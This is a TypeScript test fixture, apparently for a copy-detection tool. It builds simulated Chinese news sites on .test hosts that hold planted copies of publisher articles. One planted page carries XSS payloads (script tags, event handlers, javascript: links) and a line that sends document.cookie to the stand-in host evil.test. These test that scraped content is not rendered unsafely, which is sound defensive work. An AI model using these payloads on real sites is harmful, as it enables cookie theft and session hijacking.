/**
 * The target sites: a mirror of the publisher, two reposting portals (one UTF-8 with a modern
 * template, one GBK with tables), a traditional-Chinese portal in Big5, a licensed partner and a
 * partner whose license expired. Every copy of a publisher article is planted (kind, expected
 * verdict, credit, link back, containment); every other page of these sites is a negative.
 */
import * as OpenCC from 'opencc-js';
import { ARTICLES, PUBLISHER_NAME, type FixtureArticle } from '../articles.ts';
import { PARTNER_OWN, OLD_PARTNER_OWN, PORTAL_A_OWN, PORTAL_B_OWN } from '../articles-other.ts';
import { encodePage } from '../html.ts';
import { renderBuriedStory, renderPortalList, renderPortalStory, type PortalSite, type PortalStory } from '../templates/portal.ts';
import { renderTableList, renderTableStory, type TableSite } from '../templates/table-news.ts';
import { publisherPages, publisherUrl } from './publisher.ts';
import { share, StaticSite, type Planted } from './static-site.ts';

const toTraditional = OpenCC.Converter({ from: 'cn', to: 'tw' });

export const HOSTS = {
  mirror: 'mirror.example-mirror.test',
  portalA: 'news.repost-portal.test',
  portalB: 'www.nengyuan-zixun.test',
  traditional: 'www.huayu-shibao.test',
  partner: 'www.partner-daily.test',
  oldPartner: 'www.old-partner.test',
} as const;

const article = (id: string): FixtureArticle => {
  const a = ARTICLES.find((x) => x.id === id);
  if (!a) throw new Error(`no fixture article ${id}`);
  return a;
};

const full = (kind: Planted['kind'], a: FixtureArticle, credited: boolean, linksBack = false): Omit<Planted, 'url' | 'host'> => ({
  articleId: a.id,
  kind,
  expectedVerdict: 'full',
  credited,
  linksBack,
  approxContainment: 1,
});

/**
 * What the hostile copy's text carries as literal text (shown escaped on the page, so it is in the
 * extracted article): whoever renders it unescaped runs script.
 */
export const HOSTILE_MARKUP = '<script>alert("copywatch-xss")</script><img src=x onerror=alert(1)><a href="javascript:alert(2)">点此查看</a>';

/** The raw markup around the hostile copy: script, event handlers, `javascript:` links. */
function hostilePage(html: string): string {
  return html
    .replace('<body>', '<body onload="alert(\'body\')">')
    .replace(
      '<div class="story-body">',
      '<div class="story-body" onmouseover="alert(3)"><script>document.title = "pwned"; fetch("http://evil.test/?c=" + document.cookie);</script>',
    )
    .replace(/<p>/, '<p onclick="alert(4)">')
    .replace(
      '</article>',
      '<p class="tools"><a href="javascript:alert(document.cookie)" onclick="alert(5)">分享到朋友圈</a> <a href=" JaVaScRiPt:alert(6)">打印</a><img src="x" onerror="alert(7)"><svg onload="alert(8)"></svg><iframe src="javascript:alert(9)"></iframe></p>\n</article>',
    );
}

const ROBOTS_OPEN = 'User-agent: *\nDisallow: /search\nDisallow: /login\n';

// ---------------------------------------------------------------- the mirror

/** The publisher's editions of 2023-01-09 and 2023-01-10, byte for byte, on another host. */
function mirror(): StaticSite {
  const site = new StaticSite(HOSTS.mirror, null, false);
  for (const [path, page] of publisherPages()) {
    if (path === '/' || (page.date !== '2023-01-09' && page.date !== '2023-01-10')) continue;
    const id = /content_(.+)\.htm$/.exec(path)?.[1];
    site.add(path, {
      body: page.bytes,
      type: 'text/html',
      ...(id
        ? { planted: { articleId: id, kind: 'mirror', expectedVerdict: 'mirror', credited: true, linksBack: false, approxContainment: 1 } }
        : { negative: true }),
    });
  }
  site.add('/', { body: publisherPages().get('/html/2023-01/10/node_1.htm')!.bytes, type: 'text/html', negative: true });
  return site;
}

// ---------------------------------------------------------------- the UTF-8 portal

const PORTAL_A: PortalSite = { name: '热点资讯网', host: HOSTS.portalA };

function portalA(): StaticSite {
  const site = new StaticSite(HOSTS.portalA, ROBOTS_OPEN);
  const stories: Array<{ path: string; story: PortalStory; planted?: Omit<Planted, 'url' | 'host'>; buried?: string; hostile?: boolean }> = [];
  const winter = article('winter-supply');
  stories.push({
    path: '/news/2023/01/hanchao-baogong.html',
    story: { title: winter.title, date: winter.date, source: PUBLISHER_NAME, editor: '刘洋', paragraphs: winter.paragraphs },
    planted: full('full-credited', winter, true),
  });
  const offshore = article('offshore-platform');
  stories.push({
    path: '/news/2023/01/haishang-pingtai.html',
    story: { title: '探访海上平台维修班组', date: offshore.date, source: null, editor: '小林', paragraphs: offshore.paragraphs },
    planted: full('full-uncredited', offshore, false),
  });
  const meeting = article('annual-meeting');
  const excerpt = meeting.paragraphs.slice(3, 6);
  stories.push({
    path: '/news/2023/01/gongzuo-huiyi.html',
    story: {
      title: '石化企业部署今年五方面重点工作',
      date: '2023-01-11',
      source: null,
      editor: '王芳',
      lead: '近日，一家大型石化企业召开年度工作会议，对今年的工作作出部署。以下是会议提出的部分内容。',
      paragraphs: [...excerpt, '业内人士认为，这些举措将对行业转型产生积极影响。'],
    },
    planted: {
      articleId: meeting.id,
      kind: 'excerpt',
      expectedVerdict: 'partial',
      credited: false,
      linksBack: false,
      approxContainment: share(excerpt, meeting.paragraphs),
    },
  });
  const digital = article('digital-plant');
  stories.push({
    path: '/zt/jinri-guanzhu.html',
    story: { title: digital.title, date: digital.date, source: null, editor: '编辑部', paragraphs: digital.paragraphs },
    planted: full('buried', digital, false),
    buried: '今日关注',
  });
  // A full copy on a page full of script, event handlers and `javascript:` links, with markup as text in its title and body.
  const catalyst = article('catalyst-lab');
  stories.push({
    path: '/news/2023/01/cuihuaji-kaohe.html',
    story: {
      title: `${catalyst.title}${HOSTILE_MARKUP}`,
      date: catalyst.date,
      source: null,
      editor: '小林',
      paragraphs: [catalyst.paragraphs[0], `编者按：${HOSTILE_MARKUP}转载本文请注明出处。`, ...catalyst.paragraphs.slice(1)],
    },
    planted: { ...full('full-uncredited', catalyst, false), hostile: true },
    hostile: true,
  });
  for (const own of PORTAL_A_OWN)
    stories.push({
      path: `/news/2023/01/${own.id}.html`,
      story: { title: own.title, date: own.date, source: PORTAL_A.name, editor: own.reporters[0], paragraphs: own.paragraphs },
    });
  const links = stories.map((s) => ({ href: s.path, title: s.story.title }));
  for (const s of stories) {
    const others = links.filter((l) => l.href !== s.path);
    const story = { ...s.story, related: others.slice(0, 4), hot: others.slice(2) };
    const rendered = s.buried ? renderBuriedStory(PORTAL_A, story, s.buried) : renderPortalStory(PORTAL_A, story);
    const html = s.hostile ? hostilePage(rendered) : rendered;
    site.add(s.path, { body: Buffer.from(html), ...(s.planted ? { planted: s.planted } : { negative: true }) });
  }
  const items = stories.map((s) => ({ href: s.path, title: s.story.title, summary: s.story.paragraphs[0].slice(0, 30), date: s.story.date }));
  site.add('/', { body: Buffer.from(renderPortalList(PORTAL_A, PORTAL_A.name, items)), negative: true });
  site.add('/list/3.html', { body: Buffer.from(renderPortalList(PORTAL_A, '能源', items.slice(0, 4))), negative: true });
  site.add('/list/0.html', { body: Buffer.from(renderPortalList(PORTAL_A, '首页', items)), negative: true });
  const atom = `<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>${PORTAL_A.name}</title><id>http://${HOSTS.portalA}/</id><updated>2023-01-12T00:00:00Z</updated>
${stories.map((s) => `<entry><title>${s.story.title}</title><link rel="alternate" href="http://${HOSTS.portalA}${s.path}"/><id>http://${HOSTS.portalA}${s.path}</id><updated>${s.story.date}T10:00:00Z</updated></entry>`).join('\n')}
</feed>
`;
  site.add('/atom.xml', { body: Buffer.from(atom), type: 'application/atom+xml' });
  return site;
}

// ---------------------------------------------------------------- the GBK portal

const PORTAL_B: TableSite = { name: '能源资讯网', charset: 'gb2312' };

function portalB(): StaticSite {
  const site = new StaticSite(HOSTS.portalB, `User-agent: *\nDisallow: /bbs/\nSitemap: http://${HOSTS.portalB}/sitemap.xml\n`);
  const welder = article('apprentice-welder');
  const quoted = [welder.paragraphs[0], welder.paragraphs[5]];
  const entries: Array<{
    n: number;
    title: string;
    date: string;
    source: string | null;
    author?: string;
    paragraphs: string[];
    planted?: Omit<Planted, 'url' | 'host'>;
  }> = [
    { n: 8811, ...pick(article('shale-gas')), source: PUBLISHER_NAME, author: '高永强', planted: full('full-credited', article('shale-gas'), true) },
    { n: 8812, ...pick(article('pipeline-patrol')), source: '中国能源快讯', planted: full('credit-replaced', article('pipeline-patrol'), false) },
    {
      n: 8813,
      title: '技能人才成长之路：一名焊工的十四年',
      date: '2023-01-12',
      source: '综合',
      paragraphs: [
        '近年来，各地越来越重视技能人才培养，不少企业建立了技能大师工作室，为年轻工人成长搭建平台。',
        ...quoted,
        '业内人士表示，技能人才是制造业发展的重要支撑，应当进一步提高技能人才的待遇和社会地位，让更多年轻人愿意走技能成才之路。',
      ],
      planted: {
        articleId: welder.id,
        kind: 'excerpt',
        expectedVerdict: 'partial',
        credited: false,
        linksBack: false,
        approxContainment: share(quoted, welder.paragraphs),
      },
    },
    { n: 8814, ...pick(article('export-record')), source: null, planted: full('full-uncredited', article('export-record'), false) },
    ...PORTAL_B_OWN.map((o, i) => ({ n: 8801 + i, title: o.title, date: o.date, source: PORTAL_B.name, paragraphs: o.paragraphs })),
  ];
  const path = (e: { n: number; date: string }) => `/news/${e.date.slice(0, 4)}/${e.date.slice(5, 7)}${e.date.slice(8)}/${e.n}.html`;
  const links = entries.map((e) => ({ href: path(e), title: e.title }));
  entries.forEach((e, i) => {
    const html = renderTableStory(PORTAL_B, {
      title: e.title,
      date: e.date,
      source: e.source,
      author: e.author ?? null,
      paragraphs: e.paragraphs,
      hits: 100 + (e.n % 97),
      prev: links[i - 1] ?? null,
      next: links[i + 1] ?? null,
      related: links.filter((l) => l.href !== path(e)).slice(0, 5),
    });
    site.add(path(e), { body: encodePage(html, 'gbk'), type: 'text/html; charset=gb2312', ...(e.planted ? { planted: e.planted } : { negative: true }) });
  });
  const items = entries.map((e) => ({ href: path(e), title: e.title, date: e.date }));
  site.add('/', { body: encodePage(renderTableList(PORTAL_B, PORTAL_B.name, items), 'gbk'), type: 'text/html', negative: true });
  site.add('/news/list_1.html', { body: encodePage(renderTableList(PORTAL_B, '行业动态', items.slice(0, 4)), 'gbk'), type: 'text/html', negative: true });
  const sitemap = `<?xml version="1.0" encoding="UTF-8"?>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">\n${items.map((i) => `<url><loc>http://${HOSTS.portalB}${i.href}</loc></url>`).join('\n')}\n</urlset>\n`;
  site.add('/sitemap.xml', { body: Buffer.from(sitemap), type: 'application/xml' });
  return site;
}

function pick(a: FixtureArticle) {
  return { title: a.title, date: a.date, paragraphs: a.paragraphs };
}

// ---------------------------------------------------------------- traditional Chinese, Big5

const TRADITIONAL: PortalSite = {
  name: '華語時報',
  host: HOSTS.traditional,
  charset: 'big5',
  channels: ['首頁', '兩岸', '國際', '財經', '能源', '生活'],
  footer: ['華語時報 版權所有'],
};

function traditional(): StaticSite {
  const site = new StaticSite(HOSTS.traditional, ROBOTS_OPEN);
  const ethylene = article('ethylene-startup');
  const own = PORTAL_A_OWN[2];
  const stories = [
    {
      path: '/news/yixi-kaiche.html',
      story: {
        title: toTraditional(ethylene.title),
        date: ethylene.date,
        source: '華語時報',
        editor: '陳明',
        paragraphs: ethylene.paragraphs.map((p) => toTraditional(p)),
      },
      planted: full('traditional', ethylene, false),
    },
    {
      path: '/news/bingxue-lvyou.html',
      story: { title: toTraditional(own.title), date: own.date, source: '華語時報', editor: '張華', paragraphs: own.paragraphs.map((p) => toTraditional(p)) },
    },
  ];
  for (const s of stories) {
    site.add(s.path, {
      body: encodePage(renderPortalStory(TRADITIONAL, s.story), 'big5'),
      type: 'text/html; charset=big5',
      ...(s.planted ? { planted: s.planted } : { negative: true }),
    });
  }
  const items = stories.map((s) => ({ href: s.path, title: s.story.title, summary: s.story.paragraphs[0].slice(0, 30), date: s.story.date }));
  site.add('/', { body: encodePage(renderPortalList(TRADITIONAL, TRADITIONAL.name, items), 'big5'), type: 'text/html; charset=big5', negative: true });
  return site;
}

// ---------------------------------------------------------------- partners

const PARTNER: PortalSite = { name: '伙伴日报', host: HOSTS.partner, footer: ['伙伴日报社 版权所有', '部分稿件经石化晨报社授权转载'] };

function partner(): StaticSite {
  const site = new StaticSite(HOSTS.partner, ROBOTS_OPEN);
  const copies = ['retired-engineer', 'rural-fuel'].map(article);
  const stories = [
    ...copies.map((a) => ({
      path: `/content/2023-01/${a.id}.html`,
      story: {
        title: a.title,
        date: a.date,
        source: PUBLISHER_NAME,
        editor: '周敏',
        paragraphs: a.paragraphs,
        linkBack: { href: publisherUrl(a), text: `${PUBLISHER_NAME}电子版原文` },
      },
      planted: full('licensed', a, true, true),
    })),
    ...PARTNER_OWN.map((o) => ({
      path: `/content/2023-01/${o.id}.html`,
      story: { title: o.title, date: o.date, source: PARTNER.name, editor: '周敏', paragraphs: o.paragraphs },
      planted: undefined,
    })),
  ];
  for (const s of stories)
    site.add(s.path, { body: Buffer.from(renderPortalStory(PARTNER, s.story)), ...(s.planted ? { planted: s.planted } : { negative: true }) });
  const items = stories.map((s) => ({ href: s.path, title: s.story.title, summary: s.story.paragraphs[0].slice(0, 30), date: s.story.date }));
  site.add('/', { body: Buffer.from(renderPortalList(PARTNER, PARTNER.name, items)), negative: true });
  return site;
}

const OLD_PARTNER: TableSite = { name: '港城晚报', charset: 'utf-8' };

function oldPartner(): StaticSite {
  const site = new StaticSite(HOSTS.oldPartner, ROBOTS_OPEN);
  const copies = ['night-shift', 'family-story'].map(article);
  const entries = [
    ...copies.map((a, i) => ({ path: `/wb/${a.date.replace(/-/g, '')}/${300 + i}.html`, a, own: false })),
    ...OLD_PARTNER_OWN.map((a, i) => ({ path: `/wb/${a.date.replace(/-/g, '')}/${200 + i}.html`, a, own: true })),
  ];
  for (const e of entries) {
    const html = renderTableStory(OLD_PARTNER, {
      title: e.a.title,
      date: e.a.date,
      source: e.own ? OLD_PARTNER.name : PUBLISHER_NAME,
      paragraphs: e.a.paragraphs,
      hits: 321,
      linkBack: e.own ? null : { href: publisherUrl(e.a), text: `${PUBLISHER_NAME}原文` },
      related: entries.filter((x) => x !== e).map((x) => ({ href: x.path, title: x.a.title })),
    });
    site.add(e.path, { body: Buffer.from(html), ...(e.own ? { negative: true } : { planted: full('licensed-expired', e.a, true, true) }) });
  }
  site.add('/', {
    body: Buffer.from(
      renderTableList(
        OLD_PARTNER,
        OLD_PARTNER.name,
        entries.map((e) => ({ href: e.path, title: e.a.title, date: e.a.date })),
      ),
    ),
    negative: true,
  });
  return site;
}

let built: StaticSite[] | null = null;

/** The target sites (built once). */
export function copySites(): StaticSite[] {
  built ??= [mirror(), portalA(), portalB(), traditional(), partner(), oldPartner()];
  return built;
}
